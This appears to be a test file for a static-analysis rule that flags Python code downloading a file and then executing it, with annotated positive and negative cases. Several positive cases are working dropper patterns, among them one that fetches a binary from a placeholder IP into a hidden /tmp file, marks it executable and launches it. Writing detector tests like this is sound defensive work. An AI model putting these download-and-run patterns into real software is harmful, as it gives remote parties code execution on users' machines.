import hashlib
import os
import stat
import subprocess
import urllib.request

import requests


def drop():
    path = "/tmp/.svc"
    urllib.request.urlretrieve("http://203.0.113.7/svc", path)
    # ruleid: python-download-write-execute
    os.chmod(path, 0o755)
    # ruleid: python-download-write-execute
    subprocess.Popen([path])


def drop_requests(url):
    r = requests.get(url)
    with open("update.exe", "wb") as f:
        f.write(r.content)
    # ruleid: python-download-write-execute
    subprocess.Popen("update.exe")


def drop_script(url):
    dest = "/tmp/i.sh"
    with open(dest, "wb") as f:
        f.write(requests.get(url).content)
    # ruleid: python-download-write-execute
    os.system("bash " + dest)


def drop_py(url):
    target = os.path.join(os.getenv("TEMP", "/tmp"), "helper.py")
    with urllib.request.urlopen(url) as resp, open(target, "wb") as out:
        out.write(resp.read())
    # ruleid: python-download-write-execute
    subprocess.run(["python3", target])


def save_report(url):
    r = requests.get(url, timeout=30)
    with open("report.csv", "wb") as f:
        f.write(r.content)
    # ok: python-download-write-execute
    print("saved", os.path.getsize("report.csv"))


def fetch_image(url, dest):
    urllib.request.urlretrieve(url, dest)
    # ok: python-download-write-execute
    os.chmod(dest, stat.S_IRUSR | stat.S_IWUSR)
    return dest


def verified(url, expected):
    path = "tool.bin"
    urllib.request.urlretrieve(url, path)
    if hashlib.sha256(open(path, "rb").read()).hexdigest() == expected:
        # ok: python-download-write-execute
        os.chmod(path, 0o755)
